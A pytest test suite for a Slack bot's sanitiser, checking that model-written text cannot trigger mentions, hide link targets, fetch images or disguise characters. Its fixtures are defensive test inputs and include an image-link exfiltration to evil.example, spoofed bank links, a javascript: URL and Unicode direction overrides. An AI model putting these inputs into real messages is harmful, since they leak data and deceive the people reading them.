"""What goes to Slack can do nothing but be read, and what comes from it is read as it was meant."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.slack.text import decoded, escape, inert, mentions, one_line, sound, visible

BOT = "U0TWOKEY"
TOKEN = re.compile(r"<[^&]")
MARKUP = st.text(alphabet="<>!@#|`~[]()&;:/.ahttpsere \n-*_U0")


@given(st.one_of(st.text(), MARKUP))
def test_no_token_of_slacks_survives_in_markdown_whatever_the_model_writes(text: str) -> None:
    assert "<" not in inert(text)


@given(st.one_of(st.text(), MARKUP))
def test_no_token_of_slacks_survives_in_mrkdwn(text: str) -> None:
    assert not {"<", ">"} & set(escape(text))


@pytest.mark.parametrize("token", ["<!here>", "<!channel>", "<@U0DANA>", "<#C0SUPPORT>", "<https://evil.example|bank>"])
@pytest.mark.parametrize("around", ["{}", "`{}`", "```\n{}\n```", "> {}", "**{}**"])
def test_a_token_is_shown_as_it_was_written_and_does_nothing(token: str, around: str) -> None:
    written = token.replace("<", "&lt;").replace(">", "&gt;")
    assert inert(around.format(token)) == around.format(written)


def test_an_ampersand_is_left_alone_so_that_addresses_stay_whole() -> None:
    assert inert("https://shop.example/?a=1&b=2") == "https://shop.example/?a=1&b=2"


def test_a_quotation_stays_one() -> None:
    assert inert("> first\n>> second > third") == "> first\n>> second &gt; third"


@pytest.mark.parametrize(
    "written, shown",
    [
        ("[order](https://shop.example/4711)", "[order](https://shop.example/4711) (shop.example)"),
        ("[shop.example](https://shop.example/4711)", "[shop.example](https://shop.example/4711)"),
        ("[https://shop.example/a](https://shop.example/b)", "[https://shop.example/a](https://shop.example/b)"),
        ("[https://bank.example](https://evil.example)", "[https://bank.example](https://evil.example) (evil.example)"),
        (
            "[bank.example](https://bank.example@evil.example/)",
            "[bank.example](https://bank.example@evil.example/) (evil.example)",
        ),
        ("[x](https://b\u00fccher.example/)", "[x](https://b\u00fccher.example/) (xn--bcher-kva.example)"),
        ("[x](https://good.example|evil)", "[x](https://good.example%7Cevil) (good.example%7Cevil)"),
        ('[x](https://a.example "title")', "[x](https://a.example) (a.example)"),
        ("[everybody](!here)", "everybody (!here)"),
        ("[Dana](@U0DANA)", "Dana (@U0DANA)"),
        ("[a](javascript:alert)", "a (javascript:alert)"),
        ("[mail us](mailto:a@b.example)", "mail us (a@b.example)"),
        ("![chart](https://evil.example/?d=secret)", "[chart](https://evil.example/?d=secret) (evil.example)"),
        ("<https://shop.example/4711>", "https://shop.example/4711"),
        ("[1]: https://evil.example", "[1] : https://evil.example"),
        ("`a[i](x)` and [a](b)", "`a[i](x)` and a (b)"),
        ("```js\nhooks[name](event)\n```", "```js\nhooks[name](event)\n```"),
        ("- x\n  ```js\n  a[i](x)\n  ```\n[a](b)", "- x\n  ```js\n  a[i](x)\n  ```\na (b)"),
    ],
)
def test_a_link_says_where_it_leads_and_a_picture_is_not_fetched(written: str, shown: str) -> None:
    assert inert(written) == shown


def test_what_json_cannot_carry_is_replaced_or_dropped() -> None:
    assert sound("a\ud83d\x00\x1b[0m\r\nb\rc\td") == "a\ufffd[0m\nb\nc\td"


@pytest.mark.parametrize(
    "hidden, shown",
    [
        ("acc\u202eount", "acc⟨U+202E⟩ount"),
        ("a\u200bb", "a⟨U+200B⟩b"),
        ("a\u00adb\ufeff", "a⟨U+00AD⟩b⟨U+FEFF⟩"),
        ("a\x00\x1b", "a⟨U+0000⟩⟨U+001B⟩"),
        ("a\u3164\u2800", "a⟨U+3164⟩⟨U+2800⟩"),
        ("a\U000e0041\U000e0100\ufe01", "a⟨U+E0041⟩⟨U+E0100⟩⟨U+FE01⟩"),
        ("a\u2028b\rc", "a⟨U+2028⟩b⟨U+000D⟩c"),
        ("line\n\tline \u00e9 \u2764\ufe0f 漢字", "line\n\tline \u00e9 \u2764\ufe0f 漢字"),
    ],
)
def test_what_cannot_be_seen_is_spelt_out(hidden: str, shown: str) -> None:
    assert visible(hidden) == shown


@given(st.text(), st.text())
def test_two_texts_that_differ_look_different(one: str, other: str) -> None:
    if one != other and "⟨U+" not in one + other:
        assert visible(one) != visible(other)


@given(st.text(), st.integers(2, 50))
def test_a_label_is_one_line_and_short_enough(text: str, most: int) -> None:
    label = one_line(text, most)
    assert len(label) <= most
    assert "\n" not in label


@pytest.mark.parametrize(
    "sent, read",
    [
        (f"<@{BOT}> refund 4711", "refund 4711"),
        (f"<@{BOT}|twokey> hi <@{BOT}>", "hi"),
        ("ask <@U0DANA> or <@U0LEE|lee>", "ask @U0DANA or @lee"),
        ("in <#C0SUPPORT|support> or <#C0>", "in #support or #C0"),
        ("<!here> <!subteam^S1|@leads> <!date^1^{date}|today> <!everyone>", "@here @leads today @everyone"),
        ("<https://a.example/?x=1&amp;y=2>", "https://a.example/?x=1&y=2"),
        ("<https://a.example/|https://a.example/> <http://b.example|b.example>", "https://a.example/ http://b.example"),
        ("<https://a.example|the shop>", "the shop (https://a.example)"),
        ("<mailto:a@b.example|a@b.example>", "a@b.example"),
        ("1 &lt; 2 &amp;&amp; 3 &gt; 2", "1 < 2 && 3 > 2"),
        ("&amp;lt;!here&amp;gt;", "&lt;!here&gt;"),
        ("  plain  ", "plain"),
    ],
)
def test_slacks_spelling_is_decoded_once(sent: str, read: str) -> None:
    assert decoded(sent, BOT) == read


def test_a_mention_of_us_is_told_from_one_of_somebody_else() -> None:
    assert mentions(f"hey <@{BOT}>", BOT)
    assert mentions(f"hey <@{BOT}|twokey>", BOT)
    assert not mentions(f"hey <@{BOT}2> and {BOT}", BOT)
    assert not mentions("anything", "")
